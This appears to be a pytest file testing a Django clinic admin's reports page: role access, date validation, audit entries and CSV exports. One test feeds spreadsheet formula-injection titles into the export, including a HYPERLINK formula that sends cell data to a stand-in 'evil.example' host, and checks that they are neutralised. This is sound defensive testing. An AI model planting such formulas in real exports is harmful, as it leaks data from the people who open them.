"""The report page: who sees it, which days it shows, what its files hold."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import NoReverseMatch, reverse

from clinic_site.core.models import AuditEntry, ClinicIdentity
from clinic_site.roles import CLINICIAN, EDITOR, FRONT_DESK, MANAGER, OWNER
from consults.models import ConsultRequest, SourceCount
from consults.pipeline import note_outcome
from consults.report_sections import SECTIONS
from tests.factories.articles import make_article
from tests.factories.consults import make_quarantined_request, make_request, make_role, make_staff_user
from tests.factories.locations import make_location

from .page import text_of

NOW = datetime(2026, 11, 26, 15, tzinfo=UTC)  # Thursday, 9 am
PAGE = "/admin/consults/consultrequest/reports/"
pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def today():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def owner(client):
    """A browser in which the clinic's manager is signed in, as `owner.user`."""
    client.user = make_role(MANAGER)
    client.force_login(client.user)
    return client


def ask(days_ago: float = 1, **fields) -> ConsultRequest:
    return make_request(now=NOW - timedelta(days=days_ago), **fields)


def rows_of(response) -> list[list[str]]:
    text = response.content.decode()
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def heading_of(response) -> str:
    text = text_of(response)
    return text[text.index("Reports ") + 8 :].split(" From:")[0]


# Who sees it --------------------------------------------------------------------------------------


def test_managers_and_owners_see_the_reports_and_find_them_on_the_first_screen(client):
    for role, may in {MANAGER: True, OWNER: True, FRONT_DESK: False, EDITOR: False, CLINICIAN: False}.items():
        client.force_login(make_role(role))
        assert client.get(PAGE).status_code == (200 if may else 403), role
        assert client.get(PAGE, {"csv": "outcomes"}).status_code == (200 if may else 403), role
        assert (PAGE in client.get("/admin/").content.decode()) == may, role


def test_nobody_is_let_in_without_signing_in(client):
    response = client.get(PAGE)
    assert (response.status_code, response["Location"]) == (302, f"/admin/login/?next={PAGE}")


def test_only_looking_is_possible(owner):
    assert owner.post(PAGE).status_code == 405
    assert owner.head(PAGE).status_code == 200


def test_staff_of_one_clinic_see_its_figures_and_those_of_people_who_were_not_sure(client):
    auburn, birmingham = make_location(name="Auburn"), make_location(name="Birmingham")
    for place in (auburn, birmingham, birmingham, None):
        ask(location=place, name=f"Somebody of {place}")
    user = make_staff_user("consults.view_reports", "consults.view_consultrequest")
    user.desk_clinics.set([auburn])
    client.force_login(user)
    text = text_of(client.get(PAGE))
    assert "Requests 2 " in text
    assert "Birmingham" not in text.split(" Reports ")[-1]
    assert "You see the figures of your own clinics" in text
    response = client.get(PAGE, {"clinic": "birmingham"})
    assert "Clinic: There is no such clinic." in text_of(response)
    assert "Requests 2 " in text_of(response)


def test_looking_and_exporting_leave_an_entry_without_anything_personal(owner):
    ask(name="Dana Whitfield")
    response = owner.get(PAGE)
    assert "Dana" not in response.content.decode()
    assert "no-store" in response["Cache-Control"]
    owner.get(PAGE, {"from": "2026-11-01", "to": "2026-11-10", "csv": "hours"})
    entries = AuditEntry.objects.filter(action__startswith="report-").order_by("pk")
    assert [(entry.action, entry.actor, entry.detail) for entry in entries] == [
        ("report-viewed", owner.user, {"first": "2026-09-07", "last": "2026-11-26"}),
        ("report-exported", owner.user, {"table": "hours", "first": "2026-11-01", "last": "2026-11-10"}),
    ]


def test_the_day_by_day_list_of_pages_is_gone():
    with pytest.raises(NoReverseMatch):
        reverse("admin:consults_sourcecount_changelist")


# Which days ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("asked", "shown"),
    [
        ({}, "Sep 7, 2026 to Nov 26, 2026"),
        ({"from": "2026-03-08", "to": "2026-03-08"}, "Mar 8, 2026 to Mar 8, 2026"),
        ({"from": "2028-02-29", "to": ""}, None),
        ({"from": "2024-02-29", "to": "2024-02-29"}, "Feb 29, 2024 to Feb 29, 2024"),
        ({"from": "2026-11-01"}, "Nov 1, 2026 to Nov 26, 2026"),
        ({"from": "2026-11-01", "to": "2030-01-01"}, "Nov 1, 2026 to Nov 26, 2026"),
        ({"to": "2026-09-10"}, "Sep 7, 2026 to Sep 10, 2026"),
        ({"to": "2026-01-10"}, "Jan 10, 2026 to Jan 10, 2026"),
        ({"from": "2023-11-27", "to": "2026-11-26"}, "Nov 27, 2023 to Nov 26, 2026"),
    ],
)
def test_days_are_chosen_in_the_address(owner, asked, shown):
    assert heading_of(owner.get(PAGE, asked)).startswith(shown or "Sep 7, 2026 to Nov 26, 2026")


@pytest.mark.parametrize(
    ("asked", "said"),
    [
        ({"from": "yesterday"}, "From: This is no date. Dates look like 2026-11-26."),
        ({"to": "2026-02-29"}, "To: This is no date."),
        ({"from": "2026-11-10", "to": "2026-11-09"}, "The first day is after the last day, or after today."),
        ({"from": "2026-11-27"}, "The first day is after the last day, or after today."),
        ({"from": "1999-12-31", "to": "2000-01-02"}, "The first day cannot be before Jan 1, 2000."),
        ({"from": "0001-01-01", "to": "0001-01-02"}, "The first day cannot be before Jan 1, 2000."),
        ({"from": "2023-11-26", "to": "2026-11-26"}, "At most 3 years can be shown at once."),
        ({"from": "9999-12-31", "to": "9999-12-31"}, "The first day is after the last day, or after today."),
        ({"clinic": "mars"}, "Clinic: There is no such clinic."),
        ({"clinic": "x" * 5000}, "Clinic: There is no such clinic."),
        ({"csv": "people"}, "There is no table of that name."),
        ({"csv": "hours", "from": "x"}, "This is no date."),
    ],
)
def test_what_makes_no_sense_is_said_and_the_usual_days_are_shown(owner, asked, said):
    response = owner.get(PAGE, asked)
    assert response.status_code == 200
    assert said in text_of(response)
    assert heading_of(response).startswith("Sep 7, 2026 to Nov 26, 2026")
    assert "attachment" not in response.get("Content-Disposition", "")


def test_a_nul_byte_in_the_address_is_refused(owner):
    assert owner.get(PAGE, {"clinic": "a\0b"}).status_code == 400


def test_the_usual_ranges_are_a_click_away_and_keep_the_clinic(owner):
    make_location(name="Auburn")
    html = owner.get(PAGE, {"clinic": "auburn"}).content.decode()
    for asked in ("from=2026-11-02&amp;to=2026-11-26", "from=2025-12-01&amp;to=2026-11-26"):
        assert f'href="?{asked}&amp;clinic=auburn"' in html
    assert 'href="?from=2026-09-07&amp;to=2026-11-26&amp;clinic=auburn" aria-current="true"' in html


# What it shows ------------------------------------------------------------------------------------


def test_an_empty_clinic_gets_calm_words_and_no_drawing(owner):
    response = owner.get(PAGE)
    text = text_of(response)
    assert "No requests in these weeks." in text
    assert "so nobody waited" in text
    assert "no month of this range has ended yet" in text
    assert '<svg class="chart"' not in response.content.decode()


def test_every_figure_has_its_meaning_a_table_with_a_caption_and_a_file(owner):
    make_location(name="Auburn")
    article = make_article(title="What it is")
    request = ask(name="One")
    note_outcome(request=request, kind="booked", actor=None, now=NOW)
    ask(name="Two")
    make_quarantined_request(now=NOW)
    SourceCount.objects.create(day="2026-10-10", path=article.get_absolute_url(), requests=3)
    ConsultRequest.objects.filter(pk=request.pk).update(answered_minutes=75)
    response = owner.get(PAGE)
    html = response.content.decode()
    figures = html[html.index("desk reports") :]
    assert figures.count("<caption>") == figures.count('role="region"') == len(SECTIONS)
    for section in response.context["sections"]:
        assert not section.empty, section.key
        assert section.meaning, section.key
        assert section.chart, section.key
    for name in SECTIONS:
        assert f"&amp;csv={name}" in html
    text = text_of(response)
    assert "Median time to first contact 1 h 15 min" in text
    assert "No contact yet 1 " in text
    assert "Set aside as possible spam 1 Weeks" in text  # of three: too few for a percentage
    assert "What it is 3 0 3" in text
    assert " style=" not in html


def test_the_promise_is_measured_when_there_is_one(owner):
    assert "Within" not in text_of(owner.get(PAGE))
    identity = ClinicIdentity.load()
    identity.answer_within_hours = 4
    identity.save()
    for number, minutes in enumerate((0, 240, 240, 241, 9)):
        request = ask(name=f"Person {number}")
        note_outcome(request=request, kind="reached", actor=None, now=NOW)
        ConsultRequest.objects.filter(pk=request.pk).update(answered_minutes=minutes)
    text = text_of(owner.get(PAGE))
    assert "Not sure 5 5 4 h 4 h 1 min 4 (80%) 0 0" in text
    assert "promised: 4 h" in text


def test_one_clinic_alone(owner):
    auburn = make_location(name="Auburn")
    make_location(name="Birmingham")
    for number, place in enumerate((auburn, auburn, None)):
        ask(location=place, name=f"Person {number}")
    count = {name: text_of(owner.get(PAGE, {"clinic": name})) for name in ("", "auburn", "birmingham", "not-sure")}
    assert [f"Requests {number} Median" in count[name] for name, number in zip(count, (3, 2, 0, 1), strict=True)] == [
        True
    ] * 4
    assert "Nov 26, 2026: Auburn" in count["auburn"]


def test_it_asks_the_database_as_often_for_three_as_for_thirty(owner):
    counts = []
    make_location(name="Auburn")
    for number in (3, 27):
        for place in range(number):
            ask(days_ago=place, name=f"Person {number} {place}")
            article = make_article(title=f"Title {number} {place}", slug=f"a-{number}-{place}")
            SourceCount.objects.create(day="2026-10-10", path=article.get_absolute_url(), requests=place)
        with CaptureQueriesContext(connection) as queries:
            assert owner.get(PAGE).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]


# The files ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", SECTIONS)
def test_every_table_is_a_file_named_for_its_days_even_when_empty(owner, name):
    response = owner.get(PAGE, {"csv": name, "from": "2026-11-02", "to": "2026-11-26"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{name}-2026-11-02-to-2026-11-26.csv"'
    heading, *rows = rows_of(response)
    assert all(len(row) == len(heading) for row in rows)


def test_a_file_holds_plain_dates_and_numbers(owner):
    auburn = make_location(name="Auburn")
    ask(location=auburn, name="One")
    request = ask(days_ago=8, name="Two")
    note_outcome(request=request, kind="reached", actor=None, now=NOW)
    ConsultRequest.objects.filter(pk=request.pk).update(answered_minutes=75)
    days = {"from": "2026-11-16", "to": "2026-11-26"}
    assert rows_of(owner.get(PAGE, {"csv": "requests-by-week", **days})) == [
        ["Week of", "All", "Auburn", "Not sure"],
        ["2026-11-16", "1", "0", "1"],
        ["2026-11-23", "1", "1", "0"],
    ]
    assert rows_of(owner.get(PAGE, {"csv": "first-contact", **days})) == [
        [
            "Clinic",
            "Asked",
            "Contacted",
            "Median (minutes)",
            "90th percentile (minutes)",
            "No contact yet",
            "Ended without",
        ],
        ["Auburn", "1", "0", "", "", "1", "0"],
        ["Not sure", "1", "1", "75", "75", "0", "0"],
        ["All", "2", "1", "75", "75", "1", "0"],
    ]


def test_a20_titles_are_not_run_as_formulas_and_small_counts_are_not_told(owner):
    titles = [
        '=HYPERLINK("http://evil.example/?d="&A1,"Open")',
        "@SUM(1+1)",
        "-2+3",
        "+1 is not",
        'Plain, with "quotes"',
    ]
    for number, title in enumerate(titles):
        article = make_article(title=title, slug=f"a-{number}")
        SourceCount.objects.create(day="2026-10-10", path=article.get_absolute_url(), requests=10 - number)
    SourceCount.objects.create(day="2026-09-10", path="/articles/gone/", requests=2)
    heading, *rows = rows_of(owner.get(PAGE, {"csv": "articles"}))
    assert heading == ["Month", "Article", "Address", "Requests"]
    told = ["'" + title for title in titles[:4]] + titles[4:]
    assert [row[1] for row in rows] == [*told, "/articles/gone/"]
    assert rows[0][3] == "10"
    assert rows[-1] == ["2026-09", "/articles/gone/", "/articles/gone/", "fewer than 3"]


def test_counts_of_articles_are_the_same_whatever_the_clinic(owner):
    make_location(name="Auburn")
    SourceCount.objects.create(day="2026-10-10", path="/articles/x/", requests=7)
    asked = {"csv": "articles"}
    assert rows_of(owner.get(PAGE, {**asked, "clinic": "auburn"})) == rows_of(owner.get(PAGE, asked))


def test_more_clinics_than_there_are_colours_are_drawn_as_one_and_told_apart_in_the_table(client):
    names = [f"Clinic {number}" for number in range(7)]
    for number, name in enumerate(names):
        make_request(location=make_location(name=name), name=f"Person {number}", now=datetime.now(UTC))
    client.force_login(make_role(MANAGER))
    html = client.get(PAGE).content.decode()
    section = html[html.index('id="requests-by-week"') : html.index('id="first-contact"')]
    assert section.count('class="mark series-') == 1
    assert all(f'<th scope="col">{name}</th>' in section for name in names)
